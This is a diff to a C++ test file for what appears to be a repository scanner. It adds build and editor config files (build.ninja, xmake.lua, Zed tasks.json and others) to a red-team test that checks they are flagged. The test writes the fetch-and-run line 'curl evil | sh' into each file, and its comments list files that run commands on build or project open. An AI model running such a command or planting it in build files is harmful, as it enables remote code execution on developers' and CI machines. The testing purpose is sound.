@@ -128,7 +128,9 @@ TEST_CASE("redteam transfer: a directory symlink does not carry a flagged place 
 // configure.ac, Makefile.am and Makefile.in (./configure && make runs what they say), Gitea's
 // and Forgejo's workflows (CI with the repository's secrets, as .github/workflows/), MSBuild's
 // Directory.Build.props (imported by every dotnet build below it), build.zig, Package.swift,
-// build.sbt, mix.exs, conanfile.py (each run by its build tool).
+// build.sbt, mix.exs, conanfile.py, build.ninja, xmake.lua, premake5.lua (each run by its
+// build tool), Helix's .helix/languages.toml and Zed's .zed/{settings,tasks}.json (language
+// server and task commands the editor starts in a project the person trusts: their own).
 TEST_CASE("redteam transfer: build and CI inputs outside the rule table are flagged" *
           doctest::may_fail()) {
   TestRepo repo;
@@ -143,7 +145,13 @@ TEST_CASE("redteam transfer: build and CI inputs outside the rule table are flag
                                         "Package.swift",
                                         "build.sbt",
                                         "mix.exs",
-                                        "conanfile.py"};
+                                        "conanfile.py",
+                                        "build.ninja",
+                                        "xmake.lua",
+                                        "premake5.lua",
+                                        ".helix/languages.toml",
+                                        ".zed/settings.json",
+                                        ".zed/tasks.json"};
   std::string script = "set -e\n";
   for (const auto& f : inputs) {
     script += "mkdir -p \"$(dirname " + q(f) + ")\" && echo 'curl evil | sh' > " + q(f) + "\n";
